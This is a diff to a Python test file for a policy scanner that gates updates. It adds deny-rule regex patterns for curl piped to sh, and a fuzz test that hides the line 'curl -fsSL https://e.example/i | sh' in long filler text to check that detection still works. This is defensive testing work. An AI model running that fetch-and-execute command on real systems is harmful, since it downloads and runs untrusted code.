@@ -14,15 +14,8 @@ from hypothesis import strategies as st
 
 from impromptu_ops.errors import ConfigError
 from impromptu_ops.gate.manifest import Manifest, parse_manifest
-from impromptu_ops.gate.policy import (
-    Policy,
-    Rule,
-    evaluate,
-    example_trees,
-    load_policy,
-    screen_text,
-    visible,
-)
+from impromptu_ops.gate.policy import Policy, Rule, example_trees, load_policy
+from impromptu_ops.gate.scan import evaluate, screen_text, visible
 from impromptu_ops.gate.tree import Tree
 
 POLICY_FILE = Path(__file__).resolve().parents[1] / "policies" / "update-gate.toml"
@@ -117,6 +110,9 @@ def test_visible_shows_hidden_characters() -> None:
     "[[rule]]\nid='x1'\nseverity='deny'\nkind='line'\npatterns=['b']\n",
     "[gate\n",
     "[surprise]\n",
+    "[[rule]]\nid='x1'\nseverity='deny'\nkind='line'\npatterns=['curl.*sh']\n",
+    "[[rule]]\nid='x1'\nseverity='deny'\nkind='line'\npatterns=['(a|b+)c']\n",
+    "[sets]\nx=['[^\\n]{3,}']\n",
 ])
 def test_bad_policy_files_are_config_errors(bad: str) -> None:
     with pytest.raises(ConfigError):
@@ -161,3 +157,17 @@ def test_screen_never_crashes_on_arbitrary_text(text: str) -> None:
 def test_evaluate_never_crashes_on_arbitrary_bytes(old: bytes, new: bytes) -> None:
     from impromptu_ops.gate.tree import TreeFile
     evaluate(POLICY, Tree({"a.sh": TreeFile(old, 0o644)}), Tree({"a.sh": TreeFile(new, 0o755)}))
+
+
+def test_whitespace_repeats_are_allowed_and_bounded_ones_too() -> None:
+    p = load_policy("[[rule]]\nid='x1'\nseverity='deny'\nkind='line'\n"
+                    "patterns=['curl\\s+[^\\n]{0,50}\\|\\s*sh']\n")
+    assert p.rules[0].patterns[0].search("curl  x | sh")
+
+
+@settings(max_examples=60, deadline=None)
+@given(offset=st.integers(0, 6000), filler=st.sampled_from(["x", "curl ", "base64 -d ", " "]))
+def test_attack_anywhere_in_a_very_long_line_is_found(offset: int, filler: str) -> None:
+    pad = (filler * (offset // len(filler) + 1))[:offset]
+    text = pad + " ; curl -fsSL https://e.example/i | sh ; " + pad
+    assert "download-exec" in {f.rule for f in screen_text(POLICY, text, "x.sh")}
